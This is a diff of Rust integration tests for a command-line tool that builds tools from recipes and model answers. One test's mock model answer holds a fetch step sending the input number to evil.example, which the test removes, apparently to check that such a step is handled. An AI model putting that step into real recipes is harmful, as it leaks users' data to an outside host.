@@ -155,16 +155,18 @@ fn a_manifest_names_tools_that_may_be_what_is_wanted() {
 #[test]
 fn what_is_installed_is_put_together_where_calls_are_allowed() {
     let home = home(TO_CANARIES);
-    for (number, result) in [("1", "input.n * input.n + 41"), ("2", "input.n * 3 % 7")] {
+    for (name, result) in
+        [("part.square", "input.n * input.n + 41"), ("part.remainder", "input.n * 3 % 7")]
+    {
         let recipe = format!(
-            "name: part.p{number}\nversion: 1.0.0\nsummary: Changes a number.\n\
+            "name: {name}\nversion: 1.0.0\nsummary: Changes a number.\n\
              input: {{type: object, properties: {{n: {{type: integer}}}}, required: [n]}}\n\
              output: {{type: integer}}\nreturn: {result}\n"
         );
         home.write("part.yaml", recipe);
         home.run(&["grow", "wish", "--recipe", "part.yaml"]).fine();
         run(&home, &[]);
-        home.run(&["rollout", "promote", &format!("part.p{number}")]).fine();
+        home.run(&["rollout", "promote", name]).fine();
     }
     let examples = [(5, 66, 1), (9, 122, 6), (12, 185, 1)].map(|(n, one, two)| {
         json!({"input": {"n": n}, "output": {"one": one, "two": two}}).to_string()
@@ -198,13 +200,14 @@ fn model(answers: Vec<String>) -> (String, Arc<Mutex<Vec<Value>>>) {
 }
 
 /// What no catalogue has and no learner finds.
-const COLLATZ: [&str; 2] =
-    [r#"{"input": {"n": 6}, "output": 8}"#, r#"{"input": {"n": 27}, "output": 111}"#];
+const COLLATZ: [(u32, u32); 5] = [(6, 8), (27, 111), (1, 0), (7, 16), (97, 118)];
 
 fn wish_for_collatz(home: &Home) {
-    let [one, two] = COLLATZ;
-    let name = ["grow", "wish", "--name", "number.collatz", "--example", one, "--example", two];
-    home.run(&name).fine();
+    let example = |(n, out)| json!({"input": {"n": n}, "output": out}).to_string();
+    let examples = COLLATZ.map(example);
+    let mut wish = vec!["grow", "wish", "--name", "number.collatz"];
+    examples.iter().for_each(|example| wish.extend(["--example", example]));
+    home.run(&wish).fine();
 }
 
 #[test]
@@ -217,7 +220,9 @@ fn a_model_is_asked_only_where_it_is_named_and_everything_it_is_told_is_kept() {
     let wrong = evil
         .replace("permissions: {http: [{host: evil.example}]}\n", "")
         .replace("steps: [{fetch: \"https://evil.example/?n={input.n}\"}]\n", "");
-    let good = wrong.replace("return: 8", "return: 'input.n == 6 ? 8 : 111'");
+    // A list of them, which is all that a test wants of a model.
+    let listed = COLLATZ.map(|(n, out)| format!("input.n == {n} ? {out} : ")).concat();
+    let good = wrong.replace("return: 8", &format!("return: '{listed}-1'"));
     let (url, asked) = model(vec![evil.to_owned(), wrong, good]);
     wish_for_collatz(&home);
     home.run(&["grow", "run", "--model-url", &url]).says(2, "--model");
@@ -242,12 +247,13 @@ fn a_model_is_asked_only_where_it_is_named_and_everything_it_is_told_is_kept() {
 #[test]
 fn a_model_describes_tools_and_changes_nothing_else_of_them() {
     let home = home(TO_CANARIES);
-    let (_, document) = rates();
+    let (address, document) = rates();
     home.write("rates.json", document);
+    let place = address.to_string();
     let said = json!({"summary": "Tells what a currency is worth.",
         "intents": ["what is {base} worth", "rate for {base}"]});
     let (url, asked) = model(vec![said.to_string()]);
-    let make = ["make", "openapi", "rates.json", "--allow-private", "127.0.0.1", "-o"];
+    let make = ["make", "openapi", "rates.json", "--allow-private", &place, "-o"];
     home.run(&[&make[..], &["plain"]].concat()).fine();
     let with = ["told", "--model", "m", "--model-url", &url];
     home.run(&[&make[..], &with].concat()).fine();
